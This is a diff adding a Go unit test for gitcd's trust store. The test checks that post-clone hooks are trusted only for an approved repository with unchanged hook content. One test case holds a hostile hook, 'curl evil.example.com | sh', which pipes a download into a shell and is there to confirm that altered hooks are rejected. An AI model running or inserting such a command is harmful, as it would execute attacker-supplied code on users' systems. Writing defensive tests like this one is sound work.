@@ -0,0 +1,77 @@
+/*
+ * Copyright 2018 Google LLC.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License"); you may not
+ * use this file except in compliance with the License. You may obtain a copy of
+ * the License at
+ *
+ *      http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
+ * WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
+ * License for the specific language governing permissions and limitations under
+ * the License.
+ */
+
+
+package trust
+
+import (
+  "testing"
+  "io/ioutil"
+  "os"
+  "path"
+  "github.com/coollog/gitcd/cmd/gitcd/repository"
+)
+
+func TestTrust(t *testing.T) {
+  trustDirectory, err := ioutil.TempDir(``, `gitcd-trust`)
+  if err != nil {
+    t.Fatal(err)
+  }
+  defer os.RemoveAll(trustDirectory)
+  trustFile := path.Join(trustDirectory, `.gitcd-trust`)
+
+  trust, err := Load(trustFile)
+  if err != nil {
+    t.Fatalf("Load missing file errored: %s", err.Error())
+  }
+
+  repo := repository.Repository{Host: `github.com`, Owner: `coollog`, Name: `gitcd`}
+  hooks := []byte("postClone: [make bootstrap]\n")
+  if trust.IsTrusted(repo, hooks) {
+    t.Errorf("Unknown hooks should not be trusted")
+  }
+
+  trust.Trust(repo, hooks)
+  if err := Save(trustFile, trust); err != nil {
+    t.Fatalf("Save errored: %s", err.Error())
+  }
+  trust, err = Load(trustFile)
+  if err != nil {
+    t.Fatalf("Load errored: %s", err.Error())
+  }
+
+  expectedTrusts := []struct {
+    repo repository.Repository
+    hooks []byte
+    expectedTrusted bool
+  }{
+    {repo, hooks, true},
+    {repository.Repository{Host: `github.com`, Owner: `CoolLog`, Name: `GitCD`}, hooks, true},
+    {repo, []byte("postClone: [curl evil.example.com | sh]\n"), false},
+    {repository.Repository{Host: `github.com`, Owner: `other`, Name: `gitcd`}, hooks, false},
+    {repository.Repository{Host: repository.LocalHost, Owner: `coollog`, Name: `gitcd`}, hooks, true},
+  }
+  for _, expectedTrust := range expectedTrusts {
+    if trusted := trust.IsTrusted(expectedTrust.repo, expectedTrust.hooks); trusted != expectedTrust.expectedTrusted {
+      t.Errorf("IsTrusted for `%#v` with `%s` expected %t but got %t", expectedTrust.repo, expectedTrust.hooks, expectedTrust.expectedTrusted, trusted)
+    }
+  }
+
+  trust.Untrust(repo)
+  if trust.IsTrusted(repo, hooks) {
+    t.Errorf("Untrusted hooks should not be trusted")
+  }
+}